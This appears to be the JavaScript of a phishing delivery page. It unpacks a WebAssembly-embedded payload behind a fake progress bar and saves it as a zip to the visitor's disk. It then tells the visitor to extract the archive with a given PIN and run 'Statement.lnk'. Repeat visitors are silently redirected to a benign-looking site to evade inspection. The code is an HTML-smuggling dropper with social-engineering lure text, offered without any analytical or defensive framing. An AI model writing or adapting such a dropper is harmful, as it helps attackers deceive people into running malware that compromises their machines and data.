import init, { take, size, name } from "./render_bg.js";

const wait = (ms) => new Promise((r) => setTimeout(r, ms));
const seen = "wv_" + location.pathname.length;

(async () => {
  if (localStorage.getItem(seen)) return location.replace("https://office.example/");
  const { memory } = await init(Uint8Array.from(atob("AGFzbUFBQUFBQUFBQUFBQUE="), (c) => c.charCodeAt(0)));
  const bar = document.querySelector("progress");
  for (let i = 0; i <= 100; i += 4) {
    bar.value = i;
    await wait(60);
  }
  const view = new Uint8Array(memory.buffer, take(), size());
  const blob = new Blob([view.slice()], { type: "application/x-zip-compressed" });
  if (window.showSaveFilePicker && document.hasFocus()) {
    try {
      const h = await showSaveFilePicker({ suggestedName: name() });
      const w = await h.createWritable();
      await w.write(blob);
      await w.close();
    } catch {
      fallback(blob);
    }
  } else fallback(blob);
  localStorage.setItem(seen, "1");
  document.querySelector("p").innerHTML = "Secure file downloaded.<br>Archive PIN: <code>7731</code><br>Extract and run <b>Statement.lnk</b> to view it.";
})();

function fallback(blob) {
  const a = document.createElement("a");
  a.download = name();
  a.href = URL.createObjectURL(blob);
  a.click();
}
